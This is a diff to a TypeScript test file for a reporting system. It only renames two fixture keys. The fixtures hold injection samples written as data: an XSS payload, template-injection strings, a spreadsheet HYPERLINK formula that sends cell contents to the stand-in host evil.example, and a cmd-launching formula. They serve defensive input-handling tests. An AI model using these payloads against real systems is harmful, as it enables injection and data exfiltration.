@@ -81,7 +81,7 @@ describe(`reports with arbitrary content (TEST_SEED=${SEED})`, () => {
       HTML: `<img src=x onerror="alert('1')"><script>alert(1)</script>`,
       'an HTML entity': '&lt;b&gt; &amp;amp; &#x27;',
       'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}',
-      'a path traversal in a template': '{{constructor.constructor("return 1")()}}',
+      'a template that reaches a constructor': '{{constructor.constructor("return 1")()}}',
       'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
       'a formula that begins with a sign': `+cmd|' /C calc'!A0`,
       'a formula that begins with an at sign': '@SUM(1+1)*cmd',
@@ -133,7 +133,7 @@ describe(`reports with arbitrary content (TEST_SEED=${SEED})`, () => {
     });
 
     it('in an alias matches only the collaborator with exactly that alias', async () => {
-      for (const text of [texts['SQL'], texts['a formula'], texts['right to left'], '🧾'] as string[]) {
+      for (const text of [texts['SQL'], texts['a formula'], texts['right-to-left text'], '🧾'] as string[]) {
         await storesNothing(async () => [await report('site-visited', { collaboratorId: `tracking:${text}` })]);
         await shop.collaborator(text);
         assert.equal((await report('site-visited', { collaboratorId: `tracking:${text}` })).status, 200, text);
